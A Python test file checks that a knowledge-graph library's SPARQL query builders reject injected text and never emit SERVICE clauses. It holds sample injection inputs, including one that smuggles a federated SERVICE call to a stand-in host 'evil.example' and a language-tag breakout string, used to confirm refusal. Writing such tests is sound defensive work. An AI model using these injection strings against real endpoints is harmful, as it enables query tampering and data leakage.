from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pyoxigraph import QuerySolutions, Store

from wkgfc.evidence import Direction
from wkgfc.kg import name_queries, queries, ranking_queries

IDS = st.one_of(
    st.integers(1, 10**9).map(lambda number: f"Q{number}"),
    st.sampled_from(["wkgfc:Charlie_Chaplin", "wkgfc:The_%22Quote%22", "wkgfc:C%2B%2B_(language)", "wkgfc:O'Neill"]),
)
PROPERTIES = st.integers(1, 10**5).map(lambda number: f"P{number}")
DIRECTIONS: st.SearchStrategy[Direction] = st.sampled_from(["out", "in"])
HOSTILE = 'Q1> ?p ?o } SERVICE <http://evil.example/> { ?s ?p "x'


def columns(text: str) -> tuple[str, ...]:
    """The columns of the answer of an empty store: what does not parse raises."""
    answer = Store().query(text)
    assert isinstance(answer, QuerySolutions)
    list(answer)
    return tuple(variable.value for variable in answer.variables)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(IDS, min_size=1, max_size=5),
    st.lists(st.tuples(PROPERTIES, DIRECTIONS), min_size=1, max_size=5),
    st.lists(IDS, max_size=3),
    st.integers(1, 50),
)
def test_every_query_is_sparql_with_the_columns_it_names(
    ids: list[str], chosen: list[tuple[str, Direction]], towards: list[str], limit: int
) -> None:
    texts = {
        queries.relations(ids): queries.RELATION_COLUMNS,
        queries.triples(ids, chosen, limit, towards): queries.TRIPLE_COLUMNS,
        queries.neighbourhood(ids[0], chosen[0][1], towards): queries.TRIPLE_COLUMNS,
        ranking_queries.ranking(
            chosen[0][0], ids[0], ids[-1], descending=True, limit=limit
        ): ranking_queries.RANKING_COLUMNS,
        ranking_queries.ranking(
            chosen[0][0], ids[0], None, descending=False, limit=limit
        ): ranking_queries.RANKING_COLUMNS,
        ranking_queries.ranking(
            chosen[0][0], ids[0], None, descending=True, limit=limit, factors=dict.fromkeys(ids, 0.3048)
        ): ranking_queries.RANKING_COLUMNS,
        ranking_queries.units(chosen[0][0], ids[0]): ranking_queries.UNIT_COLUMNS,
        name_queries.neighbours(ids): name_queries.NEIGHBOUR_COLUMNS,
        name_queries.redirects(ids): name_queries.REDIRECT_COLUMNS,
        name_queries.properties([each for each, _ in chosen], ["en", "mul"]): name_queries.PROPERTY_COLUMNS,
        name_queries.labels(ids, ["en", "pt-br"]): name_queries.LABEL_COLUMNS,
        name_queries.standing(ids): name_queries.STANDING_COLUMNS,
        ranking_queries.size_of_type(ids[0]): ranking_queries.SIZE_COLUMNS,
        name_queries.vocabulary(): name_queries.VOCABULARY_COLUMNS,
        name_queries.date_modified("http://www.wikidata.org"): name_queries.DATE_COLUMNS,
    }
    for text, expected in texts.items():
        assert columns(text) == expected
        assert "SERVICE" not in text


@given(st.text())
@settings(deadline=None)
def test_text_never_enters_a_query(text: str) -> None:
    builders: list[Callable[[], str]] = [
        lambda: queries.relations([text]),
        lambda: queries.neighbourhood(text, "out"),
        lambda: queries.neighbourhood("Q1", "in", [text]),
        lambda: queries.triples([text], [("P1", "in")], 5),
        lambda: queries.triples(["Q1"], [(text, "out")], 5),
        lambda: queries.triples(["Q1"], [("P1", "in")], 5, [text]),
        lambda: ranking_queries.ranking("P1", "Q1", text or "x", descending=True, limit=5),
        lambda: ranking_queries.ranking("P1", "Q1", None, descending=True, limit=5, factors={text: 1.0}),
        lambda: ranking_queries.units(text, "Q1"),
        lambda: name_queries.neighbours([text]),
        lambda: name_queries.redirects([text]),
        lambda: name_queries.labels([text], ["en"]),
        lambda: name_queries.labels(["Q1"], [text]),
        lambda: name_queries.standing([text]),
        lambda: ranking_queries.size_of_type(text),
        lambda: name_queries.date_modified(text),
    ]
    for build in builders:
        try:
            query = build()
        except ValueError:
            continue
        columns(query)  # it was an id


@given(st.text())
@settings(deadline=None)
def test_a_name_that_is_searched_is_a_literal_and_no_more(text: str) -> None:
    assert columns(name_queries.named([text, "x"], ["en", "mul"], 5)) == name_queries.NAMED_COLUMNS
    assert columns(name_queries.named_in_any_case(text, ["en", "mul"], 5)) == name_queries.NAMED_COLUMNS


def test_an_id_with_sparql_in_it_is_refused() -> None:
    with pytest.raises(ValueError, match="no id of an entity"):
        queries.relations([HOSTILE])
    with pytest.raises(ValueError, match="no id of a property"):
        queries.triples(["Q1"], [(HOSTILE, "out")], 5)
    with pytest.raises(ValueError, match="no language"):
        name_queries.properties(["P1"], ['en") } #'])
